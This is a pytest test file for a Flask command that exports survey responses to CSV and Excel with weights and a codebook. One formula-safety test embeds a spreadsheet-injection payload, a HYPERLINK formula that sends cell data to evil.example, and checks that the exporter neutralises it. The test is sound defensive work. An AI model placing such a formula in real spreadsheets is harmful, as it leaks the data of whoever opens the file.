"""`flask --app wsgi export responses` writes one row per response, one column per item."""

import io

import openpyxl
import pandas as pd

from tests.factories import make_centre, make_field, make_response, make_wave


def test_export_unknown_wave_lists_known_waves(runner, db_session):
    make_wave(db_session, code="2026Q3")
    db_session.commit()
    result = runner.invoke(args=["export", "responses", "--wave", "2025Q1"])
    assert result.exit_code == 2
    assert "không có đợt '2025Q1' (các đợt đã có: " in result.output
    assert "2026Q3" in result.output


def test_export_empty_wave_has_header_only(runner, db_session):
    make_wave(db_session)
    db_session.commit()
    result = runner.invoke(args=["export", "responses", "--wave", "2026Q3", "--format", "csv"])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout.lstrip("\ufeff")))
    assert len(frame) == 0
    assert {"response_id", "stratum", "psu", "design_weight", "locality_code", "centre_code", "field_code",
            "quality_flags"} <= set(frame.columns)
    assert "UNWEIGHTED" in result.stderr


def test_export_csv_and_xlsx_carry_answers_and_weight_columns(runner, db_session, tmp_path):
    wave = make_wave(db_session)
    centre = make_centre(db_session)
    field = make_field(db_session)
    first = make_response(db_session, wave, centre, {"tc1": "5", "tc2": "0"}, field=field)
    make_response(db_session, wave, centre, {"tc1": "2"}, flags=["speeder"])
    db_session.commit()

    out = tmp_path / "responses.csv"
    result = runner.invoke(args=["export", "responses", "--wave", "2026Q3", "--out", str(out)])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out, dtype=str, encoding="utf-8-sig").set_index("response_id")
    assert len(frame) == 2
    row = frame.loc[str(first.id)]
    assert (row["locality_code"], row["centre_code"], row["field_code"]) == (
        centre.locality.code, centre.code, "ho_tich",
    )
    assert row["tc1"] == "5" and pd.isna(row["tc2"])  # "Không trả lời" is an empty cell
    assert frame["quality_flags"].fillna("").tolist().count("speeder") == 1
    assert set(frame["design_weight"]) == {"1.0"} and set(frame["stratum"]) == {centre.locality.code}
    columns = list(frame.columns)
    assert columns.index("tc1") < columns.index("tc2")

    xlsx = tmp_path / "responses.xlsx"
    result = runner.invoke(
        args=["export", "responses", "--wave", "2026Q3", "--format", "xlsx", "--out", str(xlsx)]
    )
    assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(xlsx)
    assert workbook.sheetnames == ["notes", "responses", "codebook", "index_tree"]
    tree = list(workbook["index_tree"].iter_rows(values_only=True))
    assert tree[1][:4] == ("sipas", tree[1][1], "mean", "service policy")
    assert "KHÔNG CÓ TRỌNG SỐ" in workbook["notes"]["A1"].value
    sheet = workbook["responses"]
    header = [cell.value for cell in sheet[1]]
    assert sheet.max_row == 3
    assert header[: len(header)] == ["response_id"] + columns
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    book = {row[0]: row[1:] for row in workbook["codebook"].iter_rows(min_row=2, values_only=True)}
    assert list(book) == header
    question, kind, choices, element = book["tc1"]
    assert kind == "likert" and question.startswith("Nơi tiếp nhận") is not None
    assert "4 = Hài lòng" in choices and "0 = Không trả lời (để trống)" in choices
    assert element.startswith("access: Tiếp cận dịch vụ")


def test_exports_are_formula_safe_and_keep_scales_numeric(runner, db_session, tmp_path):
    """Citizen free text cannot become a live spreadsheet formula (OWASP 'CSV injection')."""
    wave = make_wave(db_session)
    centre = make_centre(db_session)
    attack = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
    make_response(db_session, wave, centre, {"tc1": "4", "other_comments": attack})
    make_response(db_session, wave, centre, {"tc1": "1", "other_comments": "-ok"})
    db_session.commit()

    csv_out, xlsx_out = tmp_path / "r.csv", tmp_path / "r.xlsx"
    for out, fmt in ((csv_out, "csv"), (xlsx_out, "xlsx")):
        result = runner.invoke(args=["export", "responses", "--wave", "2026Q3", "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output

    frame = pd.read_csv(csv_out, encoding="utf-8-sig")
    assert sorted(frame["other_comments"]) == ["'-ok", "'" + attack]
    assert sorted(frame["tc1"]) == [1, 4]

    sheet = openpyxl.load_workbook(xlsx_out)["responses"]
    header = [cell.value for cell in sheet[1]]
    comments = [row[header.index("other_comments")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in comments)
    scores = [row[header.index("tc1")].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(scores) == [1, 4]  # numbers, not text, so Excel can average them


def test_export_to_an_unwritable_place_is_an_argument_error(runner, db_session, tmp_path):
    make_wave(db_session)
    db_session.commit()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / "missing-folder" / f"r.{fmt}"
        result = runner.invoke(args=["export", "responses", "--wave", "2026Q3", "--format", fmt, "--out", str(out)])
        assert result.exit_code == 2, result.output
        assert "--out: không ghi được" in result.output
